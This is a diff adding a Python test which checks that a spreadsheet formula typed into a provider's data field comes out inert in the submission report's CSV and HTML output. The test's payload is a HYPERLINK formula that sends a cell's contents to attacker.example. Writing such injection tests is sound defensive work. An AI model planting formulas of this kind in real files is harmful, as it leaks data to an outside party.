@@ -341,3 +341,30 @@ def test_a_failure_while_accepting_leaves_everything_as_it_was(
     monkeypatch.setattr(subs, "_load_accepted", real)
     subs.accept(session, ANN, new.id, directory=d)  # and it can be accepted afterwards
     assert accepted_rows(d, "SELECT count(*) FROM cla_episodes") == [(50,)]
+
+
+def test_a_formula_typed_by_a_provider_is_inert_in_the_report_csv(
+    session: Session, tmp_path: Path, authority: rt.Authority
+) -> None:
+    """An attacker at a provider types a spreadsheet formula into a field; the report
+    that the collecting body opens in a spreadsheet must show it as text (OWASP CSV
+    injection), while a plain negative number is left alone."""
+    import pyarrow as pa
+
+    d = tmp_path / "coll"
+    table = rt.cla_return(authority, 2021)
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+    i = table.schema.get_field_index("placement_type")
+    placements = table.column(i).to_pylist()
+    placements[0] = evil
+    table = table.set_column(i, "placement_type", pa.array(placements, pa.string()))
+    result = subs.submit(
+        session, ANN, "cla_episodes", 2021, write(tmp_path, "evil.csv", table), directory=d
+    )
+    with result.report_csv.open() as fh:
+        rows = [r for r in csv.DictReader(fh) if r["field"] == "placement_type" and r["value"]]
+    assert [r["value"] for r in rows if "HYPERLINK" in r["value"]] == ["'" + evil]
+    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values() if v)
+    assert "&#34;http://attacker.example" in result.report_html.read_text() or (
+        "&quot;http://attacker.example" in result.report_html.read_text()
+    )
